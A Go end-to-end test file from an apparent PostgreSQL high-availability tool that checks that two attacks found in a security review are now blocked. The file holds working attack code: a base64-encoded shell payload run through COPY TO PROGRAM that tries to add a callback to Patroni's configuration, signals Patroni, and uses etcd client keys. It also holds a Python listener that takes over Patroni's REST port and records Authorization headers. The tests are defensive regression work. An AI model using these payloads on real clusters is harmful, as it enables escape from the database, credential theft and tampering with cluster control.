package link

// A hostile review of the HA daemon (7c9819c, 7650b72, 53f1fde) found
// these two; the tests now assert that they are closed. In the suite
// (PGSHIELD_E2E=1), each about 30 s.
//
// TestAttackHANetnsEscape: code running as the postgres OS user inside
// PostgreSQL's empty network namespace (here: COPY ... TO PROGRAM as the
// superuser, which is what a compromised backend can do) tried to rewrite
// Patroni's YAML, then in a directory the postgres user owned, adding an
// on_reload callback, and sent Patroni (same kuid, outside the user
// namespace) a SIGHUP: Patroni ran the callback in the node's own network
// namespace, with the etcd client key. The directory and the YAML are now
// root's (0750 / 0640, Patroni's group reads them): the rewrite fails and
// nothing runs outside.
//
// TestAttackHARESTSquat: a local unprivileged user (uid 65534 here) takes
// Patroni's REST port on the loopback while Patroni is not listening (a
// restart). `pgshield cluster show` trusted its answer and `cluster
// switchover` sent it the REST password. The daemon now talks to the port
// only when Patroni's own process holds the listening socket.

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"crypto/rand"

	"github.com/pgshield/pgshield/internal/cluster/patroni"
	"github.com/pgshield/pgshield/internal/config"
	"github.com/pgshield/pgshield/internal/testutil/pgtest"
)

// attackNode brings up one HA node (n1, the first, bootstrapping; its
// peer n2 is configured but never started) and returns it with the etcd
// material.
func attackNode(t *testing.T) (n *daemonNode, base string, endpoints []string, etcdArgs []string, etcdNS string) {
	if os.Getenv(pgtest.EnvVar) != "1" {
		t.Skip("set PGSHIELD_E2E=1")
	}
	if os.Geteuid() != 0 {
		t.Skip("root")
	}
	hosts := map[string]string{"e1": "10.77.40.11", "e2": "10.77.40.12", "e3": "10.77.40.13", "n1": "10.77.40.21"}
	l := newLab(t, hosts)
	base, bin := daemonBase(t, "pgsh-atk-")
	_, pki, endpoints := startEtcd(t, l, base)
	ctx := context.Background()
	secrets := struct {
		Replication string `json:"replication"`
		Rewind      string `json:"rewind"`
		Config      string `json:"config"`
	}{rand.Text(), rand.Text(), rand.Text()}
	secretsJSON, _ := json.Marshal(secrets)
	password := "hA-" + rand.Text()[:12]
	pwFile := filepath.Join(base, "admin.pw")
	if err := os.WriteFile(pwFile, []byte(password+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	n = &daemonNode{name: "n1", ns: l.ns["n1"], ip: hosts["n1"], dir: filepath.Join(base, "n1"), bin: bin}
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("n1 daemon log (tail):\n%s", n.daemonLog(8000))
		}
		n.cleanup(t)
	})
	files := filepath.Join(base, "files-n1")
	if err := os.Mkdir(files, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := IssueNode(pki.CACert(), filepath.Join(pki.Dir, "ca.key"), "n1", filepath.Join(files, "node.crt"), filepath.Join(files, "node.key"), time.Now()); err != nil {
		t.Fatal(err)
	}
	for dst, src := range map[string]string{"ca.crt": pki.CACert(), "etcd-ca.crt": pki.CACert(), "etcd-client.crt": pki.ClientCert(), "etcd-client.key": pki.ClientKey()} {
		b, err := os.ReadFile(src)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(files, dst), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(files, "secrets.json"), secretsJSON, 0o600); err != nil {
		t.Fatal(err)
	}
	timings := patroni.TestTimings
	cl := config.Cluster{Scope: "pgsh-" + l.suffix, Node: "n1",
		LinkListen: net.JoinHostPort(n.ip, "5500"), LinkPort: 5501, RESTPort: 8101,
		Peers: []config.ClusterPeer{{Name: "n2", Addr: "10.77.40.22:5500", LinkPort: 5502, RESTPort: 8102}},
		Etcd:  endpoints, TTL: timings.TTL, LoopWait: timings.LoopWait, RetryTimeout: timings.RetryTimeout, AsyncWhenAlone: true}
	b, _ := json.Marshal(cl)
	clFile := filepath.Join(base, "cluster-n1.json")
	if err := os.WriteFile(clFile, b, 0o600); err != nil {
		t.Fatal(err)
	}
	if out, err := n.cli(ctx, 3*time.Minute, "init", "--listen", n.ip+":5432", "--admin-password-file", pwFile, "--storage-size", "1GiB",
		"--ha", clFile, "--ha-files", files); err != nil {
		t.Fatalf("init --ha: %v\n%s", err, out)
	}
	if out, err := n.cli(ctx, 4*time.Minute, "up", "--timeout", "3m"); err != nil {
		t.Fatalf("up: %v\n%s\n%s", err, out, n.daemonLog(6000))
	}
	waitFor(t, "n1 the leader", 2*time.Minute, nil, func() (bool, string) { return patroniRole(n, 8101, "n1", "leader") })
	var eps []string
	for _, e := range endpoints {
		eps = append(eps, "https://"+e)
	}
	etcdArgs = []string{"--endpoints=" + strings.Join(eps, ","), "--dial-timeout=3s", "--command-timeout=5s",
		"--cacert=" + pki.CACert(), "--cert=" + pki.ClientCert(), "--key=" + pki.ClientKey()}
	return n, base, endpoints, etcdArgs, l.ns["e1"]
}

func TestAttackHANetnsEscape(t *testing.T) {
	n, base, endpoints, etcdArgs, etcdNS := attackNode(t)
	ctx := context.Background()
	pdir := filepath.Join(n.dir, "patroni")
	// The attacker's own scratch directory (postgres can write /tmp too).
	odir := filepath.Join(base, "scratch")
	if err := os.Mkdir(odir, 0o777); err != nil {
		t.Fatal(err)
	}
	_ = os.Chmod(odir, 0o777)
	var eps []string
	for _, e := range endpoints {
		eps = append(eps, "https://"+e)
	}
	etcd := fmt.Sprintf(`ETCDCTL_API=3 /usr/bin/etcdctl --endpoints=%s --dial-timeout=3s --command-timeout=5s --cacert="$D/etcd-ca.crt" --cert="$D/etcd-client.crt" --key="$D/etcd-client.key"`, strings.Join(eps, ","))
	hup := `for p in /proc/[0-9]*; do if tr '\0' '\n' < $p/cmdline 2>/dev/null | grep -qx "$D/patroni.yml"; then echo "SIGHUP patroni ${p#/proc/}"; kill -HUP ${p#/proc/}; fi; done`
	stage1 := `D='` + pdir + `'
O='` + odir + `'
exec >> "$O/stage1.out" 2>&1
echo "stage1 uid: $(id)"
echo "stage1 netns: $(readlink /proc/self/ns/net)"
echo "stage1 interfaces:"; tail -n +3 /proc/net/dev | cut -d: -f1
cat > "$O/stage2.sh" <<'EOF2'
#!/bin/sh
D='` + pdir + `'
O='` + odir + `'
{
echo "stage2 uid: $(id)"
echo "stage2 netns: $(readlink /proc/self/ns/net)"
echo "stage2 interfaces:"; tail -n +3 /proc/net/dev | cut -d: -f1
` + etcd + ` put /pgshield-attack/poc escaped-from-postgres
` + etcd + ` get --prefix /service/ --keys-only
} > "$O/stage2.out" 2>&1
EOF2
chmod 755 "$O/stage2.sh"
cat > "$O/edit.py" <<'EOF3'
import os, sys, yaml
p = sys.argv[1] + "/patroni.yml"
d = yaml.safe_load(open(p))
d["postgresql"]["callbacks"] = {"on_reload": sys.argv[2] + "/stage2.sh"}
for how in ("rewrite", "replace"):
    try:
        if how == "rewrite":
            open(p, "w").write(yaml.safe_dump(d))
        else:
            open(p + ".new", "w").write(yaml.safe_dump(d)); os.rename(p + ".new", p)
        print("patroni.yml changed by", how)
    except OSError as e:
        print("patroni.yml not changed by", how, ":", e)
EOF3
python3 "$O/edit.py" "$D" "$O"
` + hup + `
sleep 4
` + hup + `
`
	b64 := base64.StdEncoding.EncodeToString([]byte(stage1))
	if out, err := n.sql(ctx, "COPY (SELECT 1) TO PROGRAM 'echo "+b64+" | base64 -d | sh'"); err != nil {
		t.Fatalf("COPY TO PROGRAM: %v %s", err, out)
	}
	s1, _ := os.ReadFile(filepath.Join(odir, "stage1.out"))
	t.Logf("stage1 (inside PostgreSQL's namespaces):\n%s", s1)
	if !strings.Contains(string(s1), "interfaces:\nlo\n") && !strings.Contains(string(s1), "interfaces:\n    lo") {
		t.Logf("(stage1's interfaces as listed above)")
	}
	if strings.Contains(string(s1), "patroni.yml changed") || !strings.Contains(string(s1), "not changed by rewrite") {
		t.Fatalf("code as postgres changed Patroni's configuration:\n%s", s1)
	}
	// Nothing runs outside: no callback output, no etcd key, within
	// several of Patroni's loops.
	time.Sleep(10 * time.Second)
	if s2, err := os.ReadFile(filepath.Join(odir, "stage2.out")); err == nil {
		t.Fatalf("Patroni ran the attacker's callback:\n%s", s2)
	}
	out, err := sh(ctx, "ip", append([]string{"netns", "exec", etcdNS, "etcdctl"}, append(etcdArgs, "get", "/pgshield-attack/poc")...)...)
	if err != nil || strings.Contains(out, "escaped-from-postgres") {
		t.Fatalf("etcd key: %v %s", err, out)
	}
	if ok, s := patroniRole(n, 8101, "n1", "leader"); !ok {
		t.Fatalf("n1 no longer the leader after the attempt: %s", s)
	}
}

func TestAttackHARESTSquat(t *testing.T) {
	n, base, _, _, _ := attackNode(t)
	ctx := context.Background()
	sq := filepath.Join(base, "squat")
	if err := os.Mkdir(sq, 0o777); err != nil {
		t.Fatal(err)
	}
	_ = os.Chmod(sq, 0o777)
	script := `import http.server, json, sys, time, socket
out = sys.argv[2]
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_GET(self):
        b = json.dumps({"members": [{"name": "n1", "role": "leader", "state": "running", "timeline": 1, "lag": 0},
                                    {"name": "n2", "role": "sync_standby", "state": "streaming", "timeline": 1, "lag": 0}]}).encode()
        self.send_response(200); self.send_header("Content-Type", "application/json"); self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b)
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        with open(out, "a") as f:
            f.write(json.dumps({"path": self.path, "auth": self.headers.get("Authorization"), "body": body.decode()}) + "\n")
        b = b"Successfully switched over"
        self.send_response(200); self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b)
http.server.HTTPServer.allow_reuse_address = True
deadline = time.time() + 60
while True:
    try:
        srv = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H)
        break
    except OSError:
        if time.time() > deadline: sys.exit(1)
        time.sleep(0.005)
with open(out + ".bound", "w") as f: f.write("bound\n")
srv.serve_forever()
`
	if err := os.WriteFile(filepath.Join(sq, "squat.py"), []byte(script), 0o644); err != nil {
		t.Fatal(err)
	}
	capture := filepath.Join(sq, "captured")
	cmd := exec.Command("ip", "netns", "exec", n.ns, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
		"/usr/bin/python3", filepath.Join(sq, "squat.py"), "8101", capture)
	cmd.Stdout, cmd.Stderr = os.Stderr, os.Stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	stopped := false
	stop := func() {
		if !stopped {
			stopped = true
			_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
			_ = cmd.Wait()
		}
	}
	defer stop()
	// Patroni restarts (here: killed; in life a crash, an upgrade, a
	// reboot where the user's process starts first).
	yml := filepath.Join(n.dir, "patroni", "patroni.yml")
	pids := procsOf(yml)
	if len(pids) == 0 {
		t.Fatal("no Patroni")
	}
	for _, p := range pids {
		_ = syscall.Kill(p, syscall.SIGKILL)
	}
	waitFor(t, "the squatter bound to Patroni's REST port", 30*time.Second, nil, func() (bool, string) {
		_, err := os.Stat(capture + ".bound")
		return err == nil, fmt.Sprint(err)
	})
	// The daemon talks to that port only when Patroni's process holds it.
	out, err := n.cli(ctx, time.Minute, "cluster", "show", "-o", "json")
	// Refused: held by another process, or Patroni's pid gone.
	if err != nil || !strings.Contains(out, `"patroni_error"`) || strings.Contains(out, `"n2"`) {
		t.Fatalf("cluster show with the port squatted: %v\n%s", err, out)
	}
	out, err = n.cli(ctx, time.Minute, "cluster", "switchover", "--to", "n2")
	if err == nil || strings.Contains(out, "Successfully") {
		t.Fatalf("cluster switchover with the port squatted: %v\n%s", err, out)
	}
	if b, err := os.ReadFile(capture); err == nil {
		t.Fatalf("the squatter received a request: %s", b)
	}
	t.Logf("squatted: cluster show and switchover refused to talk to it; nothing sent to it")
	stop()
	// Patroni back (the supervisor restarts it) and trusted again.
	waitFor(t, "Patroni back on its port", 2*time.Minute, nil, func() (bool, string) {
		out, err := n.cli(ctx, time.Minute, "cluster", "show", "-o", "json")
		return err == nil && strings.Contains(out, `"leader"`) && !strings.Contains(out, "patroni_error"), out
	})
}

func lastLines(s string, n int) string {
	l := strings.Split(strings.TrimSpace(s), "\n")
	if len(l) > n {
		l = l[len(l)-n:]
	}
	return strings.Join(l, "\n")
}
